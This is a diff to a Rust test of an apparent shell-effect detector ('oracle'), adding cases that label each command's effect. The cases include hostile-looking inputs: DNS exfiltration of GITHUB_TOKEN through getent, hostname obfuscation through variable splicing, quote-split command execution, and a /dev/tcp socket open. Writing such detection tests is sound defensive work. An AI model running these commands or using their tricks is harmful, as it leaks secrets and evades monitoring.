@@ -480,7 +480,11 @@ fn the_oracle_sees_each_kind_of_effect() {
         ("echo i''d | sh", "exec of id by sh"),
         (
             "getent hosts $GITHUB_TOKEN.example.com",
-            "DNS lookup by getent of a name not in the line",
+            "DNS lookup by getent carrying a secret (the canary of GITHUB_TOKEN)",
+        ),
+        (
+            "x=exam; getent hosts ${x}ple.org",
+            "DNS lookup by getent of a name not in the line (example.org)",
         ),
         (
             "exec 3<>/dev/tcp/10.1.2.3/80",
